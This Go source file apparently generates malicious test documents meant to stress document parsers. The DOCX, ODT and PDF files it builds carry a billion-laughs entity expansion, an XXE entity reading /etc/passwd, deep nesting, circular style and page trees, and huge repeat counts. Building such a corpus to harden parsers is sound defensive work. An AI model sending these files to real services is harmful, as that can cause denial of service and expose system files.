package main

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
)

// writtenBombs are documents of office programs, and PDF.
func writtenBombs() []bomb {
	word := func(name, file string, parts ...string) bomb {
		return bomb{kind: "document", name: name, file: file, write: func(w *writer) {
			var all []member
			for i := 0; i < len(parts); i += 2 {
				all = append(all, deflated(parts[i], parts[i+1]))
			}
			zipOf(w, all...)
		}}
	}
	large := func(w *writer) {
		zipOf(w, member{name: "word/document.xml", data: deflatedGoats(500), size: 500 * mB,
			sum: goatsSum(500)})
	}
	const main = "word/document.xml"
	body := func(s string) string { return `<w:document xmlns:w="urn:w"><w:body>` + s }
	laughs := `<!DOCTYPE w [<!ENTITY l0 "lol">`
	for i := range 10 {
		laughs += fmt.Sprintf(`<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i),
			10))
	}
	return []bomb{
		word("entities of entities", "laughs.docx", main, laughs+"]>"+body("<w:p>&l10;</w:p>")),
		word("an entity of a file", "outside.docx", main,
			`<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>`+body("<w:p>&a;</w:p>")),
		word("a million elements, one in another", "deep.docx", main,
			body(strings.Repeat("<w:p>", 1000000))),
		word("an element of 1,600,000 attributes", "attributes.docx", main,
			body("<w:p "+strings.Repeat(`a="" `, 1600000)+">")),
		{kind: "document", name: "a part of 500 MB of one word", file: "large.docx", write: large},
		word("text boxes 900 deep, and again", "boxes.docx", main, body(strings.Repeat(
			strings.Repeat("<w:txbxContent>", 900)+"<w:p><w:r><w:t>goat</w:t></w:r></w:p>"+
				strings.Repeat("</w:txbxContent>", 900), 200)+"</w:body></w:document>")).read(),
		word("a circle of 100,000 styles, and as many runs in them", "styles.docx", main,
			body("<w:p>"+strings.Repeat(`<w:r><w:rPr><w:rStyle w:val="s1"/></w:rPr><w:t>goat `+
				`</w:t></w:r>`,
				100000)+"</w:p></w:body></w:document>"), "word/styles.xml", circle(100000)).read(),
		word("a cell that stands for a billion", "cells.odt", "mimetype",
			"application/vnd.oasis.opendocument.text", "content.xml",
			`<o:d xmlns:o="o"><o:body><o:text><t><table-row><table-cell `+
				`number-columns-repeated="1000000000">`+
				`<p>The ferry sank at dawn with nine goats aboard.</p></table-cell></table-row>`+
				`</t></o:text>`+
				`</o:body></o:d>`, "META-INF/manifest.xml", "<m/>").read(),
		pdfBomb("2,000,000,000 pages, and none is there", "count.pdf", "", 2000000000, "[]"),
		pdfBomb("a page tree that is a circle", "circle.pdf", "", 1, "[2 0 R]"),
		pdfBomb("a tree of pages that is its own child a million times", "tree.pdf", "", 1000000,
			"["+strings.Repeat("2 0 R ", 1000000)+"]"),
		pdfBomb("lists three million deep", "lists.pdf", strings.Repeat("[", 3000000), 1,
			"[3 0 R]"),
		pdfBomb("a million words at the edge of a page", "flate.pdf",
			"BT /F 12 Tf "+strings.Repeat("(goat) Tj ", mB)+"ET", 1, "[3 0 R]").read(),
		pdfBomb("500,000 words on one page", "words.pdf", "BT /F 0.005 Tf 0.005 TL 72 700 Td "+
			strings.Repeat("(goats and ferries at dawn) Tj T* ", 100000)+"ET", 1, "[3 0 R]").read(),
	}
}

// circle returns n styles, each based on the next and the last on the first.
func circle(n int) string {
	var b strings.Builder
	b.WriteString(`<w:styles xmlns:w="urn:w">`)
	for i := range n {
		fmt.Fprintf(&b, `<w:style w:styleId="s%d"><w:basedOn w:val="s%d"/></w:style>`, i, (i+1)%n)
	}
	return b.String() + `</w:styles>`
}

// pdfBomb is a PDF document of one page with a content, whose tree of pages says what is given.
func pdfBomb(name, file, content string, count int, kids string) bomb {
	return bomb{kind: "PDF", name: name, file: file, write: func(w *writer) {
		var packed bytes.Buffer
		z := zlib.NewWriter(&packed)
		z.Write([]byte(content))
		z.Close()
		var b bytes.Buffer
		b.WriteString("%PDF-1.4\n")
		var at []int
		for i, o := range []string{"<</Type/Catalog/Pages 2 0 R>>",
			fmt.Sprintf("<</Type/Pages/Count %d/Kids%s>>", count, kids),
			"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources" +
				"<</Font<</F 5 0 R>>>>>>",
			fmt.Sprintf("<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream", packed.Len(),
				&packed),
			"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"} {
			at = append(at, b.Len())
			fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
		}
		start := b.Len()
		fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(at)+1)
		for _, n := range at {
			fmt.Fprintf(&b, "%010d 00000 n \n", n)
		}
		fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF", len(at)+1,
			start)
		w.Write(b.Bytes())
	}}
}
